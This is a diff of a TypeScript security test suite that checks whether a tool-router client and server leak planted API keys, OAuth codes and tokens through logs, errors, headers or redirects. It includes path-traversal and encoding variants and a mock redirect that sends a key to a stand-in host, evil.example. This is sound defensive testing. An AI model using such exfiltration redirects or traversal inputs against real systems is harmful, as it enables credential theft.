@@ -11,7 +11,7 @@ import { lenientRouter, type WireTool } from "./lenient-router.ts";
 import { loops } from "./loops.ts";
 import { countingProvider, type CountingProvider } from "./sockets.ts";
 import { otherOptions, type Target } from "./target.ts";
-import { openVictim, planted, projectKey, secretsIn, userKey, type Any, type Victim } from "./victim.ts";
+import { leadsTo, openVictim, planted, projectKey, secretsIn, userKey, type Any, type Victim } from "./victim.ts";
 
 const CLIENT_SECRET = "planted-oauth-client-secret-6e6e";
 const CLIENT_KEY = "ak_planted_client_key_77aa77aa77aa";
@@ -41,7 +41,9 @@ export const secrets: AttackClass = {
       request.setEncoding("utf8").on("data", (chunk) => (body += String(chunk)));
       request.on("end", () => {
         response.writeHead(400, { "content-type": "application/json" });
-        response.end(JSON.stringify({ error: "invalid_grant", error_description: `${body} ${JSON.stringify(request.headers)}` }));
+        response.end(
+          JSON.stringify({ error: "invalid_grant", error_description: `${body} ${JSON.stringify(request.headers)}` }),
+        );
       });
     });
     await new Promise<void>((resolve) => rude.listen(0, "127.0.0.1", resolve));
@@ -126,7 +128,12 @@ export const secrets: AttackClass = {
         },
       }),
     ],
-    ["state is not sealed", otherOptions(({ store }) => (store?.persistent ? { store: Object.assign(Object.create(store), { persistent: false }) as typeof store } : {}))],
+    [
+      "state is not sealed",
+      otherOptions(({ store }) =>
+        store?.persistent ? { store: Object.assign(Object.create(store), { persistent: false }) as typeof store } : {},
+      ),
+    ],
     [
       "errors of fetch are handed on as they are",
       (target) => ({
@@ -137,7 +144,7 @@ export const secrets: AttackClass = {
             hooks: {
               ...options?.hooks,
               onRequest: (state) => {
-                throw new Error([...state.headers].join(), { cause: { key: options?.apiKey?.split("") .join("") } });
+                throw new Error([...state.headers].join(), { cause: { key: options?.apiKey?.split("").join("") } });
               },
             },
           }),
@@ -154,13 +161,19 @@ const allSecrets = [...Object.values(planted), projectKey, userKey, CLIENT_SECRE
 async function mustNotTell(victim: Victim, more: readonly string[], answers: string): Promise<void> {
   const logs = [...victim.records, JSON.stringify(await victim.router.runs())].join("\n");
   const logged = secretsIn(logs, [...allSecrets, ...more]);
-  must(logged.length === 0, `the log has ${logged.join(", ")}: ${shown(logs.slice(Math.max(0, logs.indexOf(logged[0] ?? "") - 200)))}`);
+  must(
+    logged.length === 0,
+    `the log has ${logged.join(", ")}: ${shown(logs.slice(Math.max(0, logs.indexOf(logged[0] ?? "") - 200)))}`,
+  );
   const told = secretsIn(answers, allSecrets);
   must(told.length === 0, `an answer has ${told.join(", ")}`);
 }
 
 function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
-  const scenarios: Record<string, (victim: Victim, session: string) => Promise<{ answers: unknown[]; secrets?: string[] }>> = {
+  const scenarios: Record<
+    string,
+    (victim: Victim, session: string) => Promise<{ answers: unknown[]; secrets?: string[] }>
+  > = {
     "a proxy call that works": async (victim, session) => {
       const answer = await victim.ask("POST", `${session}/proxy_execute`, {
         body: {
@@ -168,10 +181,16 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
           endpoint: `/a?access_token=${STATE}#${STATE}`,
           method: "POST",
           body: { password: STATE },
-          parameters: [{ type: "query", name: "k", value: STATE }, { type: "header", name: "x-k", value: STATE }],
+          parameters: [
+            { type: "query", name: "k", value: STATE },
+            { type: "header", name: "x-k", value: STATE },
+          ],
         },
       });
-      must(provider.requests.at(-1)?.headers.authorization?.includes(planted.aliceKey) === true, "the provider got no key");
+      must(
+        provider.requests.at(-1)?.headers.authorization?.includes(planted.aliceKey) === true,
+        "the provider got no key",
+      );
       return { answers: [answer] };
     },
     "a proxy call with a name and a password": async (victim, session) => ({
@@ -190,9 +209,15 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
     }),
     "reads of accounts": async (victim) => ({
       answers: await Promise.all(
-        ["/connected_accounts", "/connected_accounts/ca_vault", "/connected_accounts?user_ids=alice", "/auth_configs", "/auth_configs/ac_signin", "/toolkits/signin", "/auth/session/info"].map(
-          (path) => victim.ask("GET", path),
-        ),
+        [
+          "/connected_accounts",
+          "/connected_accounts/ca_vault",
+          "/connected_accounts?user_ids=alice",
+          "/auth_configs",
+          "/auth_configs/ac_signin",
+          "/toolkits/signin",
+          "/auth/session/info",
+        ].map((path) => victim.ask("GET", path)),
       ),
     }),
     "reads of a session": async (victim, session) => ({
@@ -203,7 +228,9 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
     "an account with new credentials": async (victim) => ({
       answers: [
         await victim.ask("PATCH", "/connected_accounts/ca_vault", {
-          body: { connection: { state: { authScheme: "API_KEY", val: { status: "ACTIVE", api_key: planted.workKey } } } },
+          body: {
+            connection: { state: { authScheme: "API_KEY", val: { status: "ACTIVE", api_key: planted.workKey } } },
+          },
         }),
         await victim.ask("GET", "/connected_accounts/ca_vault"),
       ],
@@ -220,7 +247,9 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
         },
       });
       const id = String(made.body?.auth_config?.id);
-      return { answers: [made, await victim.ask("GET", `/auth_configs/${id}`), await victim.ask("GET", "/auth_configs")] };
+      return {
+        answers: [made, await victim.ask("GET", `/auth_configs/${id}`), await victim.ask("GET", "/auth_configs")],
+      };
     },
     "a link that is completed with a key": async (victim, session) => {
       const { body } = await victim.ask("POST", `${session}/link`, { body: { toolkit: "vault" } });
@@ -238,15 +267,21 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
         body: "action=connect",
         headers: { "content-type": "application/x-www-form-urlencoded" },
       });
-      const state = new URL(begun.headers.get("location") ?? "none:").searchParams.get("state") ?? "";
+      const state = new URL(leadsTo(begun) ?? "none:").searchParams.get("state") ?? "";
       must(state !== "", "there is no state");
-      const cookie = begun.headers.getSetCookie().map((each) => each.split(";")[0]).join("; ");
+      const cookie = begun.headers
+        .getSetCookie()
+        .map((each) => each.split(";")[0])
+        .join("; ");
       const back = await victim.ask("GET", `/oauth/callback?code=planted-code-abcdef&state=${state}`, {
         key: "",
         headers: { cookie },
       });
       const account = await victim.ask("GET", `/connected_accounts/${body.connected_account_id}`);
-      must(secretsIn(account.text + back.text, ["planted-code-abcdef", state]).length === 0, "the code or the state is told");
+      must(
+        secretsIn(account.text + back.text, ["planted-code-abcdef", state]).length === 0,
+        "the code or the state is told",
+      );
       return { answers: [back, account], secrets: [state, "planted-code-abcdef", body.link_token] };
     },
     "a call that waits for an approval": async (victim) => {
@@ -254,7 +289,13 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
       const call = { tool_slug: "PLAIN_WIPE", arguments: { name: "x" } };
       const { body } = await victim.ask("POST", `${path}/execute`, { body: call });
       const wrong = await victim.ask("POST", `${path}/execute`, {
-        body: { ...call, request_state: body.request_state, input_responses: { [Object.keys(body.input_requests as object)[0]!]: { action: "accept", content: { decision: "perhaps" } } } },
+        body: {
+          ...call,
+          request_state: body.request_state,
+          input_responses: {
+            [Object.keys(body.input_requests as object)[0]!]: { action: "accept", content: { decision: "perhaps" } },
+          },
+        },
       });
       return { answers: [wrong], secrets: [body.request_state] };
     },
@@ -267,9 +308,11 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
         await victim.ask("POST", `${session}/execute`, { headers: { "content-type": "text/html" }, body: projectKey }),
       ].map(({ status, text }, index) => (index < 3 ? text : status)),
     }),
-    "files": async (victim, session) => {
+    files: async (victim, session) => {
       const file = { mount_relative_path: "a" };
-      const up = await victim.ask("POST", `${session}/mounts/files/upload_url`, { body: { ...file, mimetype: "text/plain" } });
+      const up = await victim.ask("POST", `${session}/mounts/files/upload_url`, {
+        body: { ...file, mimetype: "text/plain" },
+      });
       await victim.ask("PUT", up.body.upload_url, { key: "", body: "x", headers: { "content-type": "text/plain" } });
       const down = await victim.ask("POST", `${session}/mounts/files/download_url`, { body: file });
       await victim.ask("GET", down.body.download_url, { key: "" });
@@ -318,7 +361,10 @@ function routerAttacks(open: Open, provider: CountingProvider): Attack[] {
           await victim.ask("POST", `${session}/execute`, { body: { tool_slug: "VAULT_READ" } }),
         ];
         isBroken = false;
-        must(answers.every(({ status }) => status === 500), `answered ${shown(answers.map(({ status }) => status))}`);
+        must(
+          answers.every(({ status }) => status >= 500),
+          `answered ${shown(answers.map(({ status }) => status))}`,
+        );
         must(!answers.some(({ text }) => text.includes("disk")), "the answer tells what failed inside");
         await mustNotTell(victim, [body.link_token], answers.map(({ text }) => text).join());
       },
@@ -335,7 +381,7 @@ function pathAttacks(open: Open): Attack[] {
     "a slash behind": `/link/${token}/`,
     "an encoded letter": `/lin%6b/${token}`,
     "an encoded slash": `/link%2f${token}`,
-    "capitals": `/LINK/${token}`,
+    capitals: `/LINK/${token}`,
     "a dot segment": `/./link/${token}`,
     "a step back": `/x/../link/${token}`,
     "the path of a completion": `/_local/link/${token}/complete`,
@@ -350,7 +396,9 @@ function pathAttacks(open: Open): Attack[] {
     name: `looks for a token in the log after a request with ${name}`,
     run: async () => {
       const victim = await open();
-      const { body } = await victim.ask("POST", `${await victim.session("alice")}/link`, { body: { toolkit: "vault" } });
+      const { body } = await victim.ask("POST", `${await victim.session("alice")}/link`, {
+        body: { toolkit: "vault" },
+      });
       const token: string = body.link_token;
       await victim.router.fetch(`${victim.router.baseUrl}${spellings(token)[name]}`, { redirect: "manual" });
       const logged = victim.records.filter((record) => record.includes(token));
@@ -429,21 +477,42 @@ async function everythingOf(request: Request): Promise<string> {
 /** Answers that repeat the request. */
 const repeating: Record<string, (text: string) => Response> = {
   "in the message of a 400": (message) =>
-    Response.json({ error: { message, code: 1, slug: "A", status: 400, errors: [message], suggested_fix: message, request_id: message } }, { status: 400 }),
+    Response.json(
+      {
+        error: {
+          message,
+          code: 1,
+          slug: "A",
+          status: 400,
+          errors: [message],
+          suggested_fix: message,
+          request_id: message,
+        },
+      },
+      { status: 400 },
+    ),
   "in a 401 without an envelope": (message) => Response.json({ message, detail: [{ message }] }, { status: 401 }),
-  "in a page with 502": (text) => new Response(`<html>${text}</html>`, { status: 502, headers: { "content-type": "text/html" } }),
+  "in a page with 502": (text) =>
+    new Response(`<html>${text}</html>`, { status: 502, headers: { "content-type": "text/html" } }),
   "in a success that is not JSON": (text) => new Response(text),
   "in a success that is cut off": (text) => new Response(`{"data": {"a": "${text.replaceAll('"', "")}`),
   "in the header of a 503": (text) =>
-    new Response("", { status: 503, headers: { "x-request-id": text.replaceAll(/[^\x20-\x7e]/g, ""), "retry-after": CLIENT_KEY } }),
+    new Response("", {
+      status: 503,
+      headers: { "x-request-id": text.replaceAll(/[^\x20-\x7e]/g, ""), "retry-after": CLIENT_KEY },
+    }),
   "in the location of a redirect": (text) =>
-    new Response("", { status: 302, headers: { location: `https://evil.example/?${encodeURIComponent(text)}&k=${CLIENT_KEY}` } }),
+    new Response("", {
+      status: 302,
+      headers: { location: `https://evil.example/?${encodeURIComponent(text)}&k=${CLIENT_KEY}` },
+    }),
   "encoded for a URL": (text) => new Response(encodeURIComponent(text), { status: 500 }),
 };
 
 /** Calls of the client that carry secrets. */
 const calls: Record<string, (session: SessionHandle, router: ToolRouter) => Promise<unknown>> = {
-  execute: (session) => session.execute("A", { a: 1 }, { requestState: STATE, inputResponses: { q: { action: "accept", content: {} } } }),
+  execute: (session) =>
+    session.execute("A", { a: 1 }, { requestState: STATE, inputResponses: { q: { action: "accept", content: {} } } }),
   executeMeta: (session) => session.executeMeta("COMPOSIO_SEARCH_TOOLS", { queries: [] }),
   proxy: (session) => session.proxy({ toolkit_slug: "a", endpoint: "/", method: "GET" } as never),
   "sessions.create": (_, router) => router.sessions.create("user_1"),
@@ -456,8 +525,15 @@ function clientAttacks(target: Target): Attack[] {
   const play = async (fetch: typeof globalThis.fetch, call: (typeof calls)[string]): Promise<string> => {
     const told: unknown[] = [];
     // The address of a store and the headers of an answer are what a hook is for: it has them as they are.
-    const hear = (state: object): void => void told.push(seen({ ...state, url: undefined, responseHeaders: undefined }));
-    const hooks: Hooks = { onRequest: hear, onResponse: hear, onDeprecation: hear, beforeExecute: hear, afterExecute: hear };
+    const hear = (state: object): void =>
+      void told.push(seen({ ...state, url: undefined, responseHeaders: undefined }));
+    const hooks: Hooks = {
+      onRequest: hear,
+      onResponse: hear,
+      onDeprecation: hear,
+      beforeExecute: hear,
+      afterExecute: hear,
+    };
     const router = target.createToolRouter({
       apiKey: CLIENT_KEY,
       baseUrl: "http://router.localhost",
@@ -471,7 +547,10 @@ function clientAttacks(target: Target): Attack[] {
   };
   const mustNotSay = (text: string, hidden: readonly string[]): void => {
     const found = hidden.filter((secret) => text.toLowerCase().includes(secret.toLowerCase()));
-    must(found.length === 0, `told ${found.join(", ")}: ${shown(text.slice(Math.max(0, text.toLowerCase().indexOf((found[0] ?? "").toLowerCase()) - 150)))}`);
+    must(
+      found.length === 0,
+      `told ${found.join(", ")}: ${shown(text.slice(Math.max(0, text.toLowerCase().indexOf((found[0] ?? "").toLowerCase()) - 150)))}`,
+    );
   };
   return [
     ...Object.entries(calls).flatMap(([name, call]) =>
@@ -490,7 +569,11 @@ function clientAttacks(target: Target): Attack[] {
           const request = new Request(input, init);
           const all = await everythingOf(request);
           throw Object.assign(new TypeError(`fetch failed ${all}`), {
-            cause: Object.assign(new Error(all), { code: "ECONNRESET", headers: [...request.headers], config: { all } }),
+            cause: Object.assign(new Error(all), {
+              code: "ECONNRESET",
+              headers: [...request.headers],
+              config: { all },
+            }),
             request: all,
           });
         }, call);
@@ -505,7 +588,10 @@ function clientAttacks(target: Target): Attack[] {
           const text = await play(async (input, init) => {
             const request = new Request(input, init);
             if (!request.url.startsWith("http://store")) {
-              return Response.json({ upload_url: url, download_url: url, mount_relative_path: "a", sandbox_mount_prefix: "/mnt/files" }, { status: 201 });
+              return Response.json(
+                { upload_url: url, download_url: url, mount_relative_path: "a", sandbox_mount_prefix: "/mnt/files" },
+                { status: 201 },
+              );
             }
             must(!request.headers.has("x-api-key"), "the store got the router's key");
             if (index === 0) return new Response(`<Error><Resource>${request.url}</Resource></Error>`, { status: 403 });
@@ -523,7 +609,9 @@ function clientAttacks(target: Target): Attack[] {
           async () =>
             Response.json({
               result_type: "input_required",
-              input_requests: { q: { type: "elicitation", mode: "form", message: "Run?", requested_schema: { type: "object" } } },
+              input_requests: {
+                q: { type: "elicitation", mode: "form", message: "Run?", requested_schema: { type: "object" } },
+              },
               request_state: STATE,
               data: {},
               error: "waits",
@@ -553,7 +641,9 @@ function adapterAttacks(target: Target): Attack[] {
       "in a question": (text: string): Response =>
         Response.json({
           result_type: "input_required",
-          input_requests: { q: { type: "elicitation", mode: "form", message: "Run?", requested_schema: { type: "object" } } },
+          input_requests: {
+            q: { type: "elicitation", mode: "form", message: "Run?", requested_schema: { type: "object" } },
+          },
           request_state: STATE,
           data: {},
           error: text,
